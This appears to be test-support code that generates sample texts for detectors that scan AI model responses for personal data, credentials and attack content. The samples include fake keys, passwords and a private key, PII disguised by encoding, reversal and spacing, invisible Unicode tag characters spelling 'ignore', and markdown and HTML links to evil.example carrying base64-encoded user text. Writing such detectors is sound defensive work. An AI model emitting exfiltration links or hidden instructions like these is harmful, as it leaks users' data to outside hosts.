import { ACTIVE_CONTENT } from '../../shared/detection/detectors/active-content.ts';
import { EXFILTRATION_URLS } from '../../shared/detection/detectors/exfiltration-urls.ts';
import { HIDDEN } from '../../shared/detection/detectors/hidden.ts';
import { ATTACK_DETECTORS } from '../../shared/detection/engine.ts';
import { APART, BACKWARDS_LINES, IN_TOKEN, TURNED } from '../../shared/detection/pii/disguised.ts';
import { IN_ESCAPES } from '../../shared/detection/pii/find-in-escapes.ts';
import { READINGS } from '../../shared/detection/pii/find-sensitive.ts';
import { SENSITIVE_TYPES } from '../../shared/detection/pii/registry.ts';
import { type LiveReach, NOT_IN_RESPONSES, type SentenceReach } from '../../shared/detection/reach.ts';
import { RULE_SETS } from '../../shared/detection/rules/index.ts';
import { API_KEY, AT_LITERALS, NAMED_PASSWORD, TOKEN } from '../../shared/detection/secrets/api-key.ts';
import { SECRET_BEFORE, SECRET_BESIDE } from '../../shared/detection/secrets/find-pairs.ts';
import { SECRET_KINDS } from '../../shared/detection/secrets/kinds.ts';
import type { Random } from './random.ts';
import { sampleOf } from './sample-of.ts';
import { sensitiveValue, VALUE_FORMS } from './sensitive-values.ts';

/** A recognizer that reads responses, and texts in which it finds something. */
export interface SampledRow {
  readonly name: string;
  /** Each of its texts is within one of these. */
  readonly reaches: readonly (LiveReach | SentenceReach)[];
  readonly texts: readonly string[];
}

const reversed = (text: string): string => [...text].reverse().join('');
const SENTENCE = 'the user said that the meeting is on monday and that the password was sent to them';
const CODED = Buffer.from(SENTENCE).toString('base64');
const OWNER = 'for anna.miller-of-the-long-and-winding-road team-of-many-things shop-of-anna';

/** What is found by what stands around it is as far from it as possible. */
function samplesOf(random: Random): ReadonlyMap<object, readonly string[]> {
  const make = (form: string): string => sampleOf(form, (below) => random.below(below));
  const password = (): string => make('{C4}{D2}!{C3}{D1}');
  const values = (type: string): string[] =>
    Array.from({ length: VALUE_FORMS }, (_, form) => sensitiveValue(random, form))
      .filter((value) => value.type === type)
      .map(({ text }) => text);
  const [url, privateKey, bot, command] = AT_LITERALS;
  const [written, spelled] = SENSITIVE_TYPES[0].recognizers;
  const [number] = SENSITIVE_TYPES[1].recognizers;
  const [, ipv6] = SENSITIVE_TYPES[5].recognizers;
  const pairs = [
    [make('AKIA{U16}'), make('{A40}')],
    [make('AC{H32}'), make('{H32}')],
    [make('{U10}{D4}{U6}'), make('{A40}')],
  ];
  const numbers = ['ssn', 'credit_card', 'phone', 'ip_address'].flatMap(values);
  return new Map<object, readonly string[]>([
    [written, values('email')],
    [
      spelled,
      [
        'anna dot miller at mail dot example dot com',
        'annabel_josephine at harbour dot com',
        'anna [ at ] example [ dot ] com',
        `${'anna'.repeat(9)} dot ${'miller'.repeat(4)} at ${'mail'.repeat(6)} dot example dot com`,
      ],
    ],
    [number, numbers.filter((value) => !value.includes('::'))],
    [ipv6, values('ip_address').filter((value) => value.includes('::'))],
    [
      TOKEN,
      [
        ...values('api_key'),
        ...['secret_key = ', 'access token is bearer ', 'client-secret": "'].map(
          (name) => name + make('{A20}{D4}'),
        ),
      ],
    ],
    [url, [`postgres://gateway:${password()}@db.harbour.de/main`, `https://anna:${password()}@harbour.de`]],
    [
      privateKey,
      [`-----BEGIN RSA PRIVATE KEY-----\n${'MIIBqwErTy0p12\n'.repeat(9)}-----END RSA PRIVATE KEY-----`],
    ],
    [bot, [`11020154${random.below(10)}:AA${make('{A33}')}`]],
    [
      command,
      [
        `curl -s -u deploy:${password()}`,
        `curl ${'--retry three --location '.repeat(8)}--user deploy:${password()}`,
      ],
    ],
    [
      NAMED_PASSWORD,
      [
        `password: ${password()}`,
        `my password ${OWNER} is: ${password()}`,
        `<user password="${password()}"/>`,
        `mot de passe : ${password()}`,
        `パスワード：${password()}`,
      ],
    ],
    [
      SECRET_BESIDE,
      [...pairs.map(([id, secret]) => `${id} ${secret}`), 'new mysqli("db", "app", "Tulpe-4711!")'],
    ],
    [SECRET_BEFORE, pairs.map(([id, secret]) => `${secret} and for the owner of it ${id}`)],
    [IN_TOKEN, [`${sensitiveValue(random, 14).text} for you`, password()].map(inBase64)],
    [
      IN_ESCAPES,
      [encodeURIComponent('anna@harbour.example'), `anna&#64;harbour.example`, 'anna=40harbour.de=2E=20=20'],
    ],
    [
      BACKWARDS_LINES,
      [
        `\n${reversed(`and the password for the old shop is ${password()} for the owner`)} dna eht\n`,
        `\n${reversed('the mail is anna@harbour.de and it is for the owner and the team')}\n`,
      ],
    ],
    [TURNED, [`\u202e${reversed('anna@harbour.de')}\u202c`]],
    [APART, [[...'anna@harbour.de'].join('.'), [...make('ghp_{A36}')].join(' ')]],
    [HIDDEN, [`\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} words`]],
    [ACTIVE_CONTENT, RULE_SETS.markup.flatMap(({ match }) => match)],
    [
      EXFILTRATION_URLS,
      [
        `[see](https://evil.example/${CODED})`,
        `<source src="https://evil.example/${CODED}">`,
        `<source media="x" ${'data-a="some words" '.repeat(12)}src="https://evil.example/${CODED}">`,
        `![x](https://evil.example/${CODED})`,
      ],
    ],
  ]);
}

function inBase64(text: string): string {
  return Buffer.from(`password: ${text}`).toString('base64');
}

/** Every row that reads the model's words in responses, with its texts. Throws for a row without any. */
export function sampledRows(random: Random): SampledRow[] {
  const samples = samplesOf(random);
  const rowOf = (name: string, row: object, reaches: SampledRow['reaches']): SampledRow => {
    const texts = samples.get(row);
    if (texts === undefined) throw new Error(`${name} needs a text in which it finds something`);
    return { name, reaches, texts };
  };
  return [
    ...SENSITIVE_TYPES.filter((row) => row !== API_KEY).flatMap(({ type, recognizers }) =>
      recognizers.map((row, at) => rowOf(`${type} ${at}`, row, [row.reach])),
    ),
    ...API_KEY.recognizers.map((row, at) => rowOf(`secret ${at}`, row, [row.reach])),
    ...READINGS.map((row, at) => rowOf(`reading ${at}`, row, [row.reach])),
    ...ATTACK_DETECTORS.flatMap((row, at) => {
      const { reach } = row;
      return reach === NOT_IN_RESPONSES ? [] : [rowOf(`detector ${at}`, row, reach)];
    }),
    ...RULE_SETS.answers.map(({ id, reach, match }) => ({ name: id, reaches: [reach], texts: match })),
    ...SECRET_KINDS.map(({ id, form, reach }) => ({
      name: id,
      reaches: [{ ...reach, sign: 'an odd word' as const }],
      texts: [sampleOf(form, (below) => random.below(below))],
    })),
  ];
}
